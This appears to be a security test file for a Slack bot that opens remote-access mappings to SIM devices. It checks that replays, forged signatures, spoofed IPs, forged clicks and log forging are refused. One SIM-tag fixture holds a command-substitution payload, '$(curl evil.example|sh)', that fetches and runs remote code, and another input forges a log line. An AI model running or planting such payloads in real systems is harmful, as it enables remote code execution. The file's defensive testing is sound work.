import { postSigned } from '../../src/slack-fake/index';
import { ACTION_IDS } from '../../src/slack/ids';
import { buttonsOf } from '../../src/local/render';
import { HOSTILE, unsafeSequences } from './support/mrkdwn';
import { awaitAnswer, demoSim, mappingsFrom, sendCommand, useRig, waitFor, type Rig } from './support/rig';

/**
 * The attacks of issue 7, each against the bot running as its own process: one signed bad request, a replay
 * dated in the future, an address a browser claims, hostile SIM names and tags, a forged click, log forging.
 */
const ALICE = 'U0ALICE';
const HANAKO = 'U0HANAKO';
const OPS = 'C0OPS';
const OWN_USERS = ['U0ALICE', 'U0HANAKO', 'U0ADMIN', 'U0OUTSIDER'];

const fixture = useRig({ botEnv: { LOG_LEVEL: 'debug' } });
const tally = fixture.tally;
let rig: Rig;
beforeAll(() => {
  rig = fixture.rig;
});

function commandBody(text: string): string {
  return new URLSearchParams({
    team_id: rig.slack.workspace.teamId,
    channel_id: OPS,
    user_id: ALICE,
    command: '/napter',
    text,
    response_url: rig.slack.newResponseUrl({ channelId: OPS, userId: ALICE }),
    trigger_id: rig.slack.newTriggerId(ALICE),
  }).toString();
}

async function stillServes(): Promise<void> {
  expect(rig.bot.running).toBe(true);
  const health = await rig.bot.health();
  expect(health.status).toBe(200);
  const help = await sendCommand(rig, 'help', { userId: ALICE, channelId: OPS });
  tally.answer(help, await awaitAnswer(rig, help));
}

it('one signed request with a null body does not stop the bot: it is refused and everyone else is served', async () => {
  for (const [body, contentType] of [
    ['payload=null', 'application/x-www-form-urlencoded'],
    ['null', 'application/json'],
    ['payload=%5Bnull%5D', 'application/x-www-form-urlencoded'],
  ] as const) {
    const answer = await postSigned(rig.bot.eventsUrl, body, { secret: rig.bot.signingSecret, contentType });
    tally.attempts += 1;
    expect(answer.status).toBe(400);
    tally.refused += 1;
  }
  // A failure in flight would have ended the process by now.
  await new Promise((resolve) => setTimeout(resolve, 500));
  await stillServes();
  expect((await rig.bot.health()).body['unhandledFailures']).toBe(0);
});

it('a correctly signed request dated in the future is refused: it could be replayed for as long as it is dated ahead', async () => {
  const body = commandBody('open demo-healthy ssh from 203.0.113.90');
  for (const minutesAhead of [6, 60]) {
    const answer = await postSigned(rig.bot.eventsUrl, body, { secret: rig.bot.signingSecret, timestampSec: Math.floor(Date.now() / 1000) + minutesAhead * 60 });
    tally.attempts += 1;
    expect(answer.status).toBe(401);
    tally.refused += 1;
  }
  for (const forgery of [{ signatureOverride: `v0=${'0'.repeat(64)}` }, { timestampSec: Math.floor(Date.now() / 1000) - 6 * 60 }]) {
    const answer = await postSigned(rig.bot.eventsUrl, body, { secret: rig.bot.signingSecret, ...forgery });
    tally.attempts += 1;
    expect(answer.status).toBe(401);
    tally.refused += 1;
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  expect(mappingsFrom(rig, '203.0.113.90/32')).toBe(0);
});

it('an address the browser reports never reveals another user\'s endpoint, now or through `from last`', async () => {
  // Hanako opens from 198.51.100.41, which the server sees through the trusted proxy.
  const hanako = await sendCommand(rig, 'open demo-healthy ssh', { userId: HANAKO, channelId: OPS });
  const hanakoLink = await waitFor('Hanako\'s IP link', () => linkIn(rig, HANAKO));
  const proven = await fetch(hanakoLink, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '198.51.100.41' }, body: '' });
  expect(proven.status).toBe(200);
  await proven.text();
  tally.answer(hanako, await awaitAnswer(rig, hanako));
  const hanakos = rig.sim.world.state.mappings.find((mapping) => mapping.end === 'active' && mapping.sourceIpRanges.includes('198.51.100.41/32'));
  if (hanakos === undefined) throw new Error('Hanako has no mapping');

  // Alice's browser claims that address; the page saw only 127.0.0.1.
  const alice = await sendCommand(rig, 'open demo-healthy ssh', { userId: ALICE, channelId: OPS });
  const aliceLink = await waitFor('Alice\'s IP link', () => linkIn(rig, ALICE));
  const claimed = await fetch(aliceLink, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'ip=198.51.100.41' });
  await claimed.text();
  const answer = await awaitAnswer(rig, alice);
  tally.answer(alice, answer);
  expect(JSON.stringify(answer)).not.toContain(`${hanakos.port}`);
  expect(mappingsFrom(rig, '198.51.100.41/32')).toBe(2);

  const again = await sendCommand(rig, 'open demo-healthy ssh from last', { userId: ALICE, channelId: OPS });
  const lastAnswer = await awaitAnswer(rig, again);
  tally.answer(again, lastAnswer);
  expect(JSON.stringify(lastAnswer)).not.toContain(`${hanakos.port}`);
});

it('hostile SIM names and tags never reach a channel or a reply as mentions, links, code breakouts or forged lines', async () => {
  const { simId } = demoSim(rig, 'demo-firewall');
  rig.sim.world.updateSim(simId, { name: HOSTILE, tags: { name: HOSTILE, ssh_user: 'pi```\n<!channel> $(curl evil.example|sh)' } });
  const target = `${demoSim(rig, HOSTILE).imsi}`;
  for (const text of [`diagnose ${target}`, `open ${target} ssh from 203.0.113.91`, `list ${target}`, 'list', `close ${target}`, `open ${HOSTILE.slice(0, 40)}`]) {
    const command = await sendCommand(rig, text, { userId: ALICE, channelId: OPS });
    tally.answer(command, await awaitAnswer(rig, command));
  }
  // The diagnosis thread's buttons: capture and the ticket draft carry the name too.
  const parent = await waitFor('the diagnosis parent', () => rig.slack.channelMessages(OPS).find((message) => message.metadata?.event_type === 'napter_diagnosis'));
  const withButtons = parent.replies.find((reply) => buttonsOf(reply.blocks).some((button) => button.actionId === ACTION_IDS.startCapture));
  if (withButtons === undefined) throw new Error('The diagnosis thread has no capture button');
  await rig.driver().clickButton({ userId: ALICE, message: { ts: withButtons.ts, channelId: OPS, blocks: withButtons.blocks }, actionId: ACTION_IDS.startCapture });
  await waitFor('the capture progress', () => rig.slack.channelMessages(OPS).some((message) => message.replies.some((reply) => reply.text.includes('Packet capture'))));

  const everything = [
    ...rig.slack.workspace.channels.flatMap((channel) =>
      rig.slack.channelMessages(channel.id).flatMap((message) => [message, ...message.replies, ...message.previousVersions.map((version) => ({ ...message, ...version }))]),
    ),
    ...rig.slack.ephemerals({ includeDeleted: true }),
  ];
  expect(everything.length).toBeGreaterThan(5);
  const findings = everything.flatMap((message) =>
    unsafeSequences(message, { allowedUsers: OWN_USERS, allowedLinkHosts: ['127.0.0.1'] }).map((finding) => ({ ...finding, ts: message.ts })),
  );
  expect(findings).toEqual([]);
  // The names did reach the channel and the replies: escaped.
  expect(JSON.stringify(everything)).toContain('&lt;!channel&gt;');
  expect(JSON.stringify(everything)).not.toContain('$(curl');
});

it('a click naming a diagnosis of another channel is refused', async () => {
  const command = await sendCommand(rig, 'diagnose demo-healthy', { userId: ALICE, channelId: OPS });
  tally.answer(command, await awaitAnswer(rig, command));
  const parent = await waitFor('a diagnosis parent', () =>
    rig.slack.channelMessages(OPS).find((message) => message.metadata?.event_type === 'napter_diagnosis' && message.text.includes('demo-healthy')),
  );
  const value = JSON.stringify({ v: 1, diagnosisId: String(parent.metadata?.event_payload['diagnosis_id']) });
  const viewsBefore = rig.slack.openedViews.length;
  const click = await rig.driver().clickButton({
    userId: 'U0ADMIN',
    message: { ts: '1700000000.000200', channelId: 'C0RANDOM', blocks: [] },
    actionId: ACTION_IDS.draftTicket,
    value,
    blockId: 'forged',
  });
  tally.attempts += 1;
  expect(click.status).toBe(200);
  await waitFor('the refusal', () => rig.slack.ephemerals({ userId: 'U0ADMIN', channelId: 'C0RANDOM' }).some((message) => message.text.includes('does not work')));
  tally.refused += 1;
  expect(rig.slack.openedViews.length).toBe(viewsBefore);
});

it('debug logs never print an endpoint, and text from outside cannot forge a log line', async () => {
  // A command that fails is logged with what the user typed: a newline in it must not start a line of its own.
  rig.sim.faults.add({ kind: 'error-5xx', method: 'GET', path: '/v1/query/sims', count: 10 });
  const forged = 'open "gw-forge\n2099-01-01T00:00:00.000Z ERROR [napter-bot] FORGED LINE" ssh';
  const command = await sendCommand(rig, forged, { userId: ALICE, channelId: OPS });
  tally.answer(command, await awaitAnswer(rig, command));
  rig.sim.faults.clear();
  // The failure is logged after the user is told: on a loaded machine its line may come a moment after the answer.
  await waitFor('the failure in the log', () => rig.bot.output().includes('FORGED LINE'));

  // The IP page's result, when the link message's response_url no longer works, goes out through the Web API
  // client as an ephemeral: the client echoes that request body, endpoint and all, at debug level.
  const open = await sendCommand(rig, 'open demo-healthy ssh', { userId: ALICE, channelId: OPS });
  const link = await waitFor('the IP link', () => linkIn(rig, ALICE));
  rig.slack.faults.failNext('response_url', 'expired_url', 5);
  const confirm = await fetch(link, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '203.0.113.93' }, body: '' });
  await confirm.text();
  tally.answer(open, await awaitAnswer(rig, open));
  const endpoints = rig.sim.world.state.mappings.filter((mapping) => mapping.sourceIpRanges.includes('203.0.113.93/32'));
  expect(endpoints).toHaveLength(1);
  const ephemeral = rig.slack.callsTo('chat.postEphemeral').map((call) => JSON.stringify(call.args));
  expect(ephemeral.some((args) => args.includes(`${endpoints[0]?.port}`))).toBe(true);
  await new Promise((resolve) => setTimeout(resolve, 300));

  const output = rig.bot.output();
  expect(output).toContain('http request body');
  for (const mapping of endpoints) {
    expect(output).not.toContain(`${mapping.ipAddress}:${mapping.port}`);
    if (mapping.hostname !== undefined) expect(output).not.toContain(mapping.hostname);
  }
  expect(rig.bot.lines.some((line) => line.startsWith('2099-01-01T00:00:00.000Z ERROR'))).toBe(false);
  expect(output).not.toContain(rig.bot.signingSecret);
  expect(output).not.toContain(rig.sim.authKey);
});

function linkIn(riggy: Rig, userId: string): string | undefined {
  const messages = riggy.slack.ephemerals({ userId, channelId: OPS });
  for (const message of [...messages].reverse()) {
    const url = buttonsOf(message.blocks).find((button) => button.url?.includes('/napter/ip/'))?.url;
    if (url !== undefined) return url;
  }
  return undefined;
}
